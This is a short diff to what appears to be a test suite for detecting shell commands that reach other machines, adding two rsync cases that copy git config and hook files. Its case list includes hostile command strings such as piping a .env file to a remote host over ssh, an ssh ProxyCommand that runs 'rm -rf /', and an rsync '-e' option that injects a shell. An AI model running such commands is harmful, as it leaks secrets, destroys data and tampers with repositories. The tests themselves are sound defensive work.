@@ -33,6 +33,8 @@ describe("programs that reach other machines", () => {
       "cat .env | ssh host 'cat > x'",
       "ssh -o ProxyCommand='rm -rf /' h",
       "rsync -a x /etc/",
+      "cd build && rsync -R .git/config ..",
+      "rsync -aR build/./.git/hooks/pre-push .",
       "rsync -e 'sh -c id' a h:b",
       "rsync --delete -a empty/ /",
       "rsync -a evil/.git/ .git/",
